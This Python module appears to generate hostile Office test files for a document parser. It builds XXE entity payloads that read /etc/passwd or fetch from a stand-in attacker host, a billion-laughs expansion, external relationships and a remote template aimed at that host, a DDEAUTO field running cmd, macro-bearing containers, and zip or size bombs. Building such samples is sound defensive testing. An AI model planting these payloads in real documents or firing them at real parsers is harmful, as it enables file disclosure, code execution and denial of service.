"""Office files that declare entities, reach out, carry macros, or are far larger than they look."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

from samples.hostile.item import Item, Items, archive, word, workbook
from samples.hostile.ole import compound

_AWAY = "http://198.51.100.1/evil"
_LAUGHS = '<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
)
_DECLARED = {
    "laughs": f"<!DOCTYPE x [{_LAUGHS}]>",
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "address": f'<!DOCTYPE x SYSTEM "{_AWAY}.dtd">',
    "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_AWAY}"> %p;]>',
}
_RELATION = '<Relationship Id="rEvil" Type="{}" Target="{}" TargetMode="External"/></Relationships>'
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_END = "</Relationships>"
_WIDE = '<w:gridSpan w:val="99999999"/>'


def offices() -> Items:
    """Yield Word files, workbooks and others."""
    yield from _entities()
    yield from _reaching()
    yield from _large()
    macro = compound({"VBA": {"dir": b"x" * 300, "ThisDocument": b"Sub AutoOpen()" * 90}})
    carried = _changed(word(), {}, {"word/vbaProject.bin": macro})
    yield Item("macro", "macro.docx", carried)
    yield Item("macro", "macro.docm", carried)
    yield Item("macro", "macro.xlsx", _changed(workbook(), {}, {"xl/vbaProject.bin": macro}))
    yield Item(
        "macro", "macro.doc", compound({"WordDocument": b"\xec\xa5" * 900, "Macros": {"a": b"x"}})
    )
    yield Item(
        "broken-office", "old.doc", compound({"WordDocument": b"\xec\xa5\xc1\0" + bytes(5_000)})
    )
    yield Item(
        "broken-office", "old.wps", compound({"WordDocument": b"x" * 5_000, "1Table": b"y" * 99})
    )
    yield Item("broken-office", "old.xls", compound({"Workbook": b"\x09\x08\x10\0" * 2_000}))
    locked = {"EncryptionInfo": bytes(4_096), "EncryptedPackage": b"\xee" * 4_096}
    yield Item("locked", "locked.docx", compound(locked))
    yield Item("locked", "locked.xlsx", compound(locked))
    yield Item(
        "unsupported", "form.ofd", archive({"OFD.xml": b"<a/>", "Doc_0/Document.xml": b"<a/>"})
    )
    yield Item("unsupported", "form.rtf", b"{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE x}}}")
    yield Item("unsupported", "page.html", b"<script src='http://198.51.100.1/'></script>")
    yield Item("unsupported", "run.exe", b"MZ" + bytes(2_000))
    yield Item("unsupported", "form.pdf.exe", b"\x7fELF" + bytes(2_000))
    yield Item("broken-office", "no-types.docx", archive({"word/document.xml": b"<a/>"}))
    yield Item("broken-office", "no-body.docx", _changed(word(), {"word/document.xml": None}, {}))
    yield Item("cyclic", "chain.doc", _chained())


def _entities() -> Items:
    for name, declared in _DECLARED.items():
        for kind, data, parts in (
            ("docx", word(), ("word/document.xml", "word/_rels/document.xml.rels")),
            ("xlsx", workbook(), ("xl/worksheets/sheet1.xml", "xl/workbook.xml")),
        ):
            for place, part in enumerate(parts):
                text = _part(data, part)
                end = text.find("?>") + 2 if text.startswith("<?xml") else 0
                new = text[:end] + declared + text[end:]
                made = _changed(data, {part: new.encode()}, {})
                yield Item("entities", f"{name}-{place}.{kind}", made)


def _reaching() -> Items:
    for name in ("attachedTemplate", "image", "oleObject", "frame", "hyperlink", "aFChunk"):
        for aim in (_AWAY, "\\\\198.51.100.1\\share\\a", "file:///etc/passwd"):
            relations = _part(word(), "word/_rels/document.xml.rels")
            added = relations.replace(_END, _RELATION.format(_TYPES + name, aim))
            made = _changed(word(), {"word/_rels/document.xml.rels": added.encode()}, {})
            yield Item("remote", f"{name}-{len(aim)}.docx", made)
    settings = "word/_rels/settings.xml.rels"
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    template = head + _RELATION.format(_TYPES + "attachedTemplate", f"{_AWAY}.dotm")
    yield Item("remote", "template.docx", _changed(word(), {}, {settings: template.encode()}))
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/c calc"</w:instrText></w:r></w:p><w:sectPr'
    body = _part(word(), "word/document.xml").replace("<w:sectPr", field, 1)
    yield Item("remote", "field.docx", _changed(word(), {"word/document.xml": body.encode()}, {}))
    links = "xl/_rels/workbook.xml.rels"
    added = _part(workbook(), links).replace(_END, _RELATION.format(_TYPES + "externalLink", _AWAY))
    yield Item("remote", "link.xlsx", _changed(workbook(), {links: added.encode()}, {}))


def _large() -> Items:
    body = _part(word(), "word/document.xml")
    for name, inside in (
        ("deep-tags", "<w:smartTag>" * 3_000 + "</w:smartTag>" * 3_000),
        ("deep-tables", "<w:tbl><w:tr><w:tc>" * 60 + "</w:tc></w:tr></w:tbl>" * 60),
        ("paragraphs", "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 60_000),
        ("span", f"<w:tbl><w:tr><w:tc><w:tcPr>{_WIDE}</w:tcPr><w:p/></w:tc></w:tr></w:tbl>"),
    ):  # fmt: skip
        made = body.replace("<w:sectPr", inside + "<w:sectPr", 1)
        data = _changed(word(), {"word/document.xml": made.encode()}, {})
        yield Item("deep" if "deep" in name else "bomb", f"{name}.docx", data)
    sheet = _part(workbook(), "xl/worksheets/sheet1.xml")
    start, end = sheet.index("<sheetData>"), sheet.index("</sheetData>")
    for name, rows in (
        ("far", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        ("rows", "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 30_000))),
        ("wild", '<row r="-1"><c r="ZZZZZ0"><v>1e999</v></c></row>'),
    ):
        made = sheet[:start] + "<sheetData>" + rows + sheet[end:]
        data = _changed(workbook(), {"xl/worksheets/sheet1.xml": made.encode()}, {})
        yield Item("bomb", f"{name}.xlsx", data)
    big = _changed(word(), {}, {"word/media/image1.png": bytes(40_000_000)})
    yield Item("bomb", "media.docx", big)


def _part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name).decode()


def _changed(data: bytes, changes: Mapping[str, bytes | None], added: Mapping[str, bytes]) -> bytes:
    """The package with parts changed (or left out) and added."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    kept = {name: changes.get(name, body) for name, body in parts.items()}
    return archive({name: body for name, body in {**kept, **added}.items() if body is not None})


def _chained() -> bytes:
    """A compound file whose table of sectors leads back to its start."""
    data = bytearray(compound({"WordDocument": b"x" * 9_000}))
    data[-512:-508] = bytes(4)
    return bytes(data)
